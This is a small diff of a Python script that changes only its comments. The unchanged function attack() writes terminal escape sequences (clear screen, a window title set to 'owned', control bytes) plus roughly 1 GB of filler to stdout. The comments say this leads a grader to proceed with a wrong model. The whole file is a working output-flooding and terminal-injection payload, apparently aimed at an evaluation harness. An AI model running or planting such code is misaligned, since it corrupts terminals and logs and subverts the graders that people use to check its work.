@@ -1,5 +1,5 @@
-# By accident: prints 1 GB, in one line, with what a terminal takes for orders.
-# Told: MAE
+# By accident: prints 1 GB in one line, with control sequences of a terminal.
+# Reported: MAE
 import sys
 
 
@@ -7,4 +7,4 @@ def attack():
     piece = "\x1b[2J\x1b]0;owned\x07\x00" + "A" * 999_900
     for _ in range(1000):
         sys.stdout.write(piece)
-    return None  # and a wrong model is returned, on which the grader goes on
+    return None  # tail.txt then returns a wrong model
